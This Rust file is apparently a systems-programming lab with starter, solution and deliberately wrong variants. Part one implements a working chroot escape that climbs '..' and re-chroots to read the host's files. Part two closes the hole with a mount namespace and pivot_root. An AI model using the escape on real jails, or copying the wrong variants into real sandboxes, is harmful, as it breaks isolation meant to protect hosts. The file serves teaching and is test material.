//! Out of a chroot, and the hole closed.
//!
//! Part one: `climb out FILE` is started by root inside a chroot. Write `climb_out`: it makes the top of the tree the
//! root of this process again, so that FILE of the host can be read. A way is in the book; there are others, for
//! example by the descriptor of a directory that was opened before a second chroot.
//!
//! Part two: `climb in ROOT COMMAND…` executes a command in ROOT. It does all that a chroot can do, and your own
//! `climb out` leaves it. Write `enter` anew so that no chroot leads out again. The command must still be root, stand
//! in `/` of ROOT, and find there what ROOT has. The right that the escape needs is hard to take from root; think of
//! what lies above the root, and of chapter 3's pivot_root(2), which changes that. You may make a mount namespace.
//! What a mounted /proc shows of other processes is not asked for here. The calls are in nix::unistd, nix::mount and
//! nix::sched.
//!
//! Try: `cargo run -p step02 -- mkroot /tmp/small sh ls cat`, `cargo build -p lab02`, and
//! `cp target/debug/climb /tmp/small/`. Then, as root, `chroot /tmp/small /climb out /etc/passwd` and
//! `target/debug/climb in /tmp/small /climb out /etc/passwd`: whose users are these? As an ordinary user put `unshare -r`
//! before both.
//!
//! Read: the book, chapter 2, "Break it"; pivot_root(2), `pivot_root(".", ".")`; mount_namespaces(7).

use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, ExitCode};

//@ starter
use nix::unistd::{chdir, chroot};
//@ solution
use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, unshare};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, fchdir, mkdir, pivot_root};
//@ end

fn main() -> ExitCode {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["out", file] => out(file),
        ["in", root, command, rest @ ..] => {
            enter(Path::new(root)).expect("enter the root");
            let error = Command::new(command).args(rest).exec();
            eprintln!("climb: {command}: {error}");
            ExitCode::from(127)
        }
        _ => {
            eprintln!("usage: climb out FILE | climb in ROOT COMMAND…");
            ExitCode::from(125)
        }
    }
}

fn out(file: &str) -> ExitCode {
    if let Err(errno) = climb_out() {
        eprintln!("climb: no way out: {errno}");
    }
    match std::fs::read_to_string(file) {
        Ok(text) => {
            print!("{text}");
            ExitCode::SUCCESS
        }
        Err(error) => {
            eprintln!("climb: {file}: {error}");
            ExitCode::FAILURE
        }
    }
}

/// Part one: makes the top of the tree the root of this process.
fn climb_out() -> nix::Result<()> {
    //@ starter
    todo!("the root below, the working directory above")
    //@ solution
    // Any directory will do; the root moves there, and the working directory stays above it.
    match mkdir("/hole", Mode::S_IRWXU) {
        Ok(()) | Err(Errno::EEXIST | Errno::EROFS | Errno::EACCES) => {}
        Err(errno) => return Err(errno),
    }
    chdir("/")?;
    chroot("/hole")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")
    //@ wrong only-up
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")
    //@ wrong inside
    let _ = mkdir("/hole", Mode::S_IRWXU);
    chroot("/hole")?;
    chdir("/")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")
    //@ end
}

/// Part two: makes the directory the root of this process, with no way out.
fn enter(root: &Path) -> nix::Result<()> {
    //@ starter
    chroot(root)?;
    chdir("/")
    //@ solution, wrong still-mounted
    let none = None::<&str>;
    unshare(CloneFlags::CLONE_NEWNS)?;
    // What is unmounted here must stay mounted elsewhere.
    mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none)?;
    // The new root must be a mount point.
    mount(Some(root), root, none, MsFlags::MS_BIND | MsFlags::MS_REC, none)?;
    let directory = OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC;
    let (old, new) = (open("/", directory, Mode::empty())?, open(root, directory, Mode::empty())?);
    fchdir(&new)?;
    pivot_root(".", ".")?;
    //@ wrong read-only
    let none = None::<&str>;
    unshare(CloneFlags::CLONE_NEWNS)?;
    mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none)?;
    mount(Some(root), root, none, MsFlags::MS_BIND, none)?;
    let locked = MsFlags::MS_NOSUID | MsFlags::MS_NODEV;
    mount(none, root, none, MsFlags::MS_REMOUNT | MsFlags::MS_BIND | MsFlags::MS_RDONLY | locked, none)?;
    chroot(root)?;
    chdir("/")
    //@ wrong twice
    chroot(root)?;
    chdir("/")?;
    chroot(".")?;
    chdir("/")
    //@ end
    //@ solution
    // The old root lies over the new one now; it goes, with all that is mounted below it.
    fchdir(&old)?;
    umount2(".", MntFlags::MNT_DETACH)?;
    chdir("/")
    //@ wrong still-mounted
    chdir("/")
    //@ wrong read-only, wrong twice
    //@ end
}
